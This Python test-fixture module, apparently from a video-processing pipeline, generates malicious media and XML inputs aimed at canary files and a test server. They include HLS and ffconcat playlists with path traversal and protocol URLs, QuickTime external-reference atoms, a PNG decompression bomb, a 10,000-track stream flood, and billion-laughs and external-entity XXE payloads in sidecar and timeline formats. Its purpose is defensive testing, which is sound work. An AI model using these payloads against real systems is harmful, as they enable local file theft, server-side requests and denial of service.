"""Recordings, sidecars and timelines made to harm: each leads to a canary, a file or a port that nobody may touch."""

import struct
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

from pipeline.processes.ffmpeg import find_ffmpeg

SECRET = "the canary sings of Kaptagat"
STREAMS = 10_000
_MOVIE = (b"moov", b"trak", b"mdia", b"minf")


def movie(place: Path, *codec: str) -> bytes:
    """A second of pictures in a MOV whose header stands last, so that it may grow."""
    words = ["-f", "lavfi", "-i", "testsrc2=s=64x64:r=25:d=1", *codec, "-f", "mov", place]
    subprocess.run([find_ffmpeg(), "-v", "error", "-y", *words], check=True, stdin=subprocess.DEVNULL)
    data = place.read_bytes()
    place.unlink()
    return data


def box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(body), kind) + body


def changed(data: bytes, way: tuple[bytes, ...], change: Callable[[bytes], bytes]) -> bytes:
    """A movie in which the body of the box at the end of this way is another."""
    made, at = b"", 0
    while at < len(data):
        size, kind = struct.unpack_from(">I4s", data, at)
        body = data[at + 8 : at + size]
        if kind == way[0]:
            body = changed(body, way[1:], change) if way[1:] else change(body)
        made += box(kind, body)
        at += size
    return made


def referring(data: bytes, kind: bytes, where: bytes) -> bytes:
    """A movie whose pictures lie elsewhere (QuickTime File Format, data reference atoms)."""
    entry = box(kind, bytes(4) + where)
    return changed(data, (*_MOVIE, b"dinf", b"dref"), lambda _: bytes(4) + struct.pack(">I", 1) + entry)


def huge_picture(data: bytes, side: int = 16_000) -> bytes:
    """PNG pictures that are small in the file and claim to be large."""
    at = data.index(b"png \0\0\0\0\0\0\0\1") + 28
    data = data[:at] + struct.pack(">HH", side, side) + data[at + 4 :]
    return data.replace(b"IHDR" + struct.pack(">II", 64, 64), b"IHDR" + struct.pack(">II", side, side))


def many_streams(data: bytes) -> bytes:
    def multiplied(moov: bytes) -> bytes:
        at = moov.index(b"trak") - 4
        track = moov[at : at + struct.unpack_from(">I", moov, at)[0]]
        return moov + track * (STREAMS - 1)

    return changed(data, (b"moov",), multiplied)


def recordings(place: Path, canary: Path, server: str) -> Iterator[tuple[str, bytes]]:
    """Files under the names of footage; `canary` is a movie that can be played, `server` an address."""
    file = str(canary).encode()
    lists = {
        "file": b"file://" + file, "path": file, "beside": b"../../../" + canary.name.encode(),
        "http": server.encode() + b"/segment.ts", "tcp": server.replace("http", "tcp").encode(),
        "concat": b"concat:" + file + b"|" + file, "subfile": b"subfile,,start,0,end,99,,:" + file,
        "data": b"data:text/plain," + file, "crypto": b"crypto:" + file,
    }  # fmt: skip
    head = b"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n"
    for number, (name, where) in enumerate(lists.items()):
        suffix = (".mov", ".mp4", ".mxf", ".MTS", ".mkv")[number % 5]
        yield f"hls-{name}{suffix}", head + b"#EXTINF:10.0,\n" + where + b"\n#EXT-X-ENDLIST\n"
        yield f"ffconcat-{name}{suffix}", b"ffconcat version 1.0\nfile '" + where + b"'\nduration 1\n"
    yield "hls-key.mov", head + f'#EXT-X-KEY:METHOD=AES-128,URI="{server}/key"\n#EXTINF:1,\n{server}/a.ts\n'.encode()
    yield "hls-master.mp4", f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{server}/sub.m3u8\n".encode()
    yield "hls-in.avi", b"RIFF\xff\0\0\0AVI LIST\x14\1\0\0hdrlavih" + head + b"#EXTINF:1,\n" + lists["http"] + b"\n"
    base = f"<BaseURL>{server}/</BaseURL>"
    period = (
        f'<Period><AdaptationSet><Representation id="1"><BaseURL>{canary}</BaseURL></Representation></AdaptationSet>'
    )
    yield "dash.mov", f'<?xml version="1.0"?><MPD type="static">{base}{period}</Period></MPD>'.encode()
    yield "sdp.mxf", b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n"
    yield "subtitles.mov", b'1\n00:00:00,000 --> 00:00:09,000\n<font face="' + file + b'">x</font>\n'
    jpeg = movie(place, "-c:v", "mjpeg", "-q:v", "5")
    yield "reference-url.mov", referring(jpeg, b"url ", b"file://" + file + b"\0")
    yield "reference-http.mov", referring(jpeg, b"url ", server.encode() + b"/media.mov\0")
    yield "reference-alias.mov", referring(jpeg, b"alis", _alias(file))
    yield "bomb.mov", huge_picture(movie(place, "-c:v", "png", "-pix_fmt", "rgb24"))
    yield "streams.mov", many_streams(jpeg)


def _alias(file: bytes) -> bytes:
    """A Macintosh alias record, version 2, whose POSIX path (entry 18) is this."""
    fixed = bytes(4) + struct.pack(">HH", 0, 2) + bytes(142)
    even = file + b"\0" * (len(file) & 1)
    return fixed + struct.pack(">HH", 18, len(file)) + even + struct.pack(">HH", 0xFFFF, 0)


def entities(canary: Path, server: str) -> dict[str, str]:
    """What may stand before an XML document and does harm where it is believed; all define &e;."""
    laughs = "".join(f'<!ENTITY l{number} "{f"&l{number - 1};" * 10}">' for number in range(1, 12))
    return {
        "laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}<!ENTITY e "&l11;">]>',
        "file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{canary}">]>',
        "http": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{server}/entity">]>',
        "dtd": f'<!DOCTYPE x SYSTEM "{server}/x.dtd" [<!ENTITY % p SYSTEM "{server}/p"> %p; <!ENTITY e "x">]>',
        "quadratic": f'<!DOCTYPE x [<!ENTITY q "{"a" * 30_000}"><!ENTITY e "{"&q;" * 2_000}">]>',
    }


_SONY = "urn:schemas-professionalDisc:nonRealTimeMeta:ver.2.00"
_RDF = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
_P2 = "urn:schemas-Professional-Plug-in:P2:ClipMetadata:v3.1"
SIDECARS = {
    "M01.XML": f'<NonRealTimeMeta xmlns="{_SONY}"><Device manufacturer="&e;"/></NonRealTimeMeta>',
    ".xmp": f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><r:RDF xmlns:r="{_RDF}"><r:Description>&e;</r:Description></r:RDF>'
            "</x:xmpmeta>",
    ".XML": f'<P2Main xmlns="{_P2}"><ClipContent><ClipName>&e;</ClipName></ClipContent></P2Main>',
    ".gpx": '<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><trk><name>&e;</name></trk></gpx>',
    ".mhl": '<hashlist version="1.1"><hash><file>&e;</file><size>1</size><md5>0</md5></hash></hashlist>',
}  # fmt: skip
TIMELINES = {
    ".xml": '<xmeml version="5"><sequence><name>&e;</name></sequence></xmeml>',
    ".fcpxml": '<fcpxml version="1.10"><library><event name="&e;"/></library></fcpxml>',
    ".kdenlive": '<mlt><producer id="&e;"/></mlt>',
}
